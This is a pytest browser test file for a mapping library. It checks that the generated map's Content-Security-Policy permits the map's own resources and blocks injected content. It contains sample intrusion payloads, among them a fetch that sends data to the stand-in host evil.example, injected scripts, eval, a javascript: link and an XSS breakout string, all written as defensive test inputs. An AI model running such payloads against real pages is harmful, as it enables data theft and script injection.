"""The page's Content-Security-Policy in a real browser: our map is within it, intruders are not."""

import html
import re

import folium
import geopandas as gpd
import pandas as pd
import pytest
import shapely
from folium import plugins
from shapely.geometry import box

import geoevents as ge
from geoevents.maps import event_map

pytestmark = pytest.mark.browser

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""
READY = """async () => {
  const names = Object.keys(window).filter((name) => name.startsWith("event_layer_"));
  await Promise.all(names.map((name) => window[name].ready));
  await new Promise((done) => setTimeout(done, 300));
  return names.length;
}"""


class Opened:
    """A page with its violations, messages and requests."""

    def __init__(self, page, online):
        self.page, self.messages, self.online = page, [], online
        page.on("console", self._on_console)
        page.on("pageerror", lambda error: self.messages.append(str(error)))

    def _on_console(self, message):
        if message.type == "error" and "Failed to load resource" not in message.text:
            self.messages.append(message.text)

    @property
    def violations(self):
        return self.page.evaluate("() => window.violations")

    def run(self, code):
        """Run what an intruder would, and give the page a moment."""
        self.page.evaluate(
            f"async () => {{ {code}; await new Promise((done) => setTimeout(done, 150)); }}"
        )


@pytest.fixture
def opened(contexts, tmp_path):
    """Open pages offline: requests are noted, and fail."""
    context = contexts.lend(LISTEN, viewport={"width": 1200, "height": 800})
    online = []

    def refuse(route):
        # What the policy stops does not come this far.
        online.append(route.request.url)
        route.abort("failed")

    context.route(re.compile("^https?:"), refuse)

    def open_page(shown, ready=True):
        path = tmp_path / "map.html"
        if isinstance(shown, str):
            path.write_text(shown, encoding="utf-8")
        else:
            shown.save(path)
        found = Opened(context.new_page(), online)
        found.page.goto(path.as_uri())
        if ready:
            assert found.page.evaluate(READY) >= 1
        return found

    yield open_page
    contexts.take_back(context)


@pytest.fixture
def events():
    return gpd.GeoDataFrame(
        {
            "event_id": ["a", "b", "c"],
            "event_type": ["air strike", "territorial gain", "siege"],
            "actor": ["SDF", "ISIS", None],
            "start": pd.to_datetime(["2017-09-01", "2017-09-10", None]),
            "inferred": [False, True, False],
            "source": ["https://example.org/a", "Agency", None],
        },
        geometry=[shapely.Point(40.1, 35.3), box(40.2, 35.2, 40.5, 35.5), shapely.Point(40, 35)],
        crs=4326,
    )


def whole(events, **options):
    """A map with all that it can show."""
    ground = gpd.GeoDataFrame(
        {"date": ["2017-09-01", "2017-09-09"] * 2, "actor": ["SDF", "SDF", "ISIS", "ISIS"]},
        geometry=[box(40, 35, 40.2, 36), box(40, 35, 40.3, 36), box(40.2, 35, 41, 36),
                  box(40.3, 35, 41, 36)],
        crs=4326,
    )  # fmt: skip
    territory = ge.Territory.from_snapshots(ground)
    return event_map(
        events, territory=territory, changes=territory.changes(), title="All", subtitle="of it",
        localities=ge.locate(["10 km east of Raqqa", "nowhere at all"]), **options,
    )  # fmt: skip


@pytest.mark.parametrize("options", [{}, {"basemap": None}, {"theme": "dark", "time": False}])
def test_our_own_map_is_within_it(opened, events, options):
    found = opened(whole(events, **options))
    assert found.page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1
    assert found.violations == []
    assert found.messages == []
    assert found.online == []


def test_tiles_are_asked_for_where_they_were_chosen(opened, events):
    found = opened(whole(events, basemap="osm"))
    assert found.violations == []
    assert found.online
    assert all(url.startswith("https://tile.openstreetmap.org/") for url in found.online)


def test_in_a_notebook(opened, events):
    page = f"<!DOCTYPE html><body>{whole(events)._repr_html_()}</body>"
    found = opened(page, ready=False)
    frame = next(frame for frame in found.page.frames if frame.parent_frame)
    assert frame.evaluate(READY) == 1
    assert frame.evaluate("() => window.violations") == []
    assert frame.locator(".ge-failure").count() == 0
    assert found.messages == []
    assert found.online == []


def test_what_folium_adds_is_let_through(opened, events):
    shown = whole(events)
    folium.Marker((35.2, 40.2), popup="x", icon=folium.Icon(icon="flag")).add_to(shown)
    plugins.MarkerCluster([(35, 40), (35.1, 40)]).add_to(shown)
    plugins.HeatMap([(35, 40), (35.1, 40)]).add_to(shown)
    folium.GeoJson(events[["geometry"]], tooltip="x").add_to(shown)
    events.drop(columns="start").explore(m=shown, color="black", tooltip="actor")
    folium.TileLayer("https://{s}.tiles.example.org/{z}/{x}/{y}.png", attr="A").add_to(shown)
    # Without the linked scripts the rest of the page's own script does not run.
    found = opened(shown, ready=False)
    assert found.violations == []
    hosts = {url.split("/")[2] for url in found.online}
    assert {"code.jquery.com", "cdn.jsdelivr.net", "cdnjs.cloudflare.com"} <= hosts


INTRUSIONS = {
    "a picture": (
        'const i = new Image(); i.src = "https://evil.example/x.png"; document.body.append(i)',
        "img-src https://evil.example/x.png",
    ),
    "a handler": (
        (
            'document.body.insertAdjacentHTML("beforeend", "<p onclick=\'window.ran = 1\'>x</p>");'
            "document.body.lastElementChild.click()"
        ),
        "script-src-attr inline",
    ),
    "a script": (
        (
            'const s = document.createElement("script"); s.text = "window.ran = 1";'
            "document.body.append(s)"
        ),
        "script-src-elem inline",
    ),
    "a linked script": (
        (
            'const s = document.createElement("script"); s.src = "https://cdn.jsdelivr.net/npm/evil";'
            "document.body.append(s)"
        ),
        "script-src-elem https://cdn.jsdelivr.net/npm/evil",
    ),
    "text as code": (
        'setTimeout(() => (0, eval)("window.ran = 1"))',
        "script-src eval",
    ),
    "a link that runs": (
        (
            'const a = document.createElement("a"); a.href = "javascript:window.ran = 1";'
            "document.body.append(a); a.click()"
        ),
        "script-src-elem inline",
    ),
    "a request": (
        'await fetch("https://evil.example/?stolen").catch(() => 0)',
        "connect-src https://evil.example/?stolen",
    ),
    "a frame": (
        (
            'const f = document.createElement("iframe"); f.src = "https://evil.example/";'
            "document.body.append(f)"
        ),
        "frame-src https://evil.example",
    ),
    "a style sheet": (
        (
            'const l = document.createElement("link"); l.rel = "stylesheet";'
            'l.href = "https://evil.example/x.css"; document.head.append(l)'
        ),
        "style-src-elem https://evil.example/x.css",
    ),
    "a form": (
        (
            'const f = document.createElement("form"); f.action = "https://evil.example/";'
            "document.body.append(f); f.submit()"
        ),
        "form-action https://evil.example/",
    ),
}


@pytest.fixture
def one(opened, events):
    return opened(event_map(events, basemap=None))


@pytest.mark.parametrize("name", INTRUSIONS)
def test_an_intruder_is_stopped(one, name):
    code, reported = INTRUSIONS[name]
    one.run(code)
    assert any(violation.startswith(reported) for violation in one.violations)
    assert one.page.evaluate("() => window.ran") is None
    assert not any("evil" in url for url in one.online)


def test_without_the_policy_it_would_not_be(opened, events):
    shown = event_map(events, basemap=None)
    shown.policy = None
    found = opened(shown)
    for name in ("a picture", "a handler", "a script", "text as code"):
        found.page.evaluate("() => { window.ran = null; }")
        found.run(INTRUSIONS[name][0])
        if name == "a picture":
            assert "https://evil.example/x.png" in found.online
        else:
            assert found.page.evaluate("() => window.ran") == 1


def test_text_that_breaks_out_of_a_popup_does_not_run(opened, events):
    shown = event_map(events, basemap=None)
    evil = "</script><script>window.ran = 1</script><img src=x onerror='window.ran = 1'>"
    shown.get_root().html.add_child(folium.Element(f"<p>{html.escape('fine')}</p>"))
    shown.get_root().script.add_child(folium.Element(f'"{evil}"'))
    found = opened(shown, ready=False)
    found.run("")
    assert found.page.evaluate("() => window.ran") is None
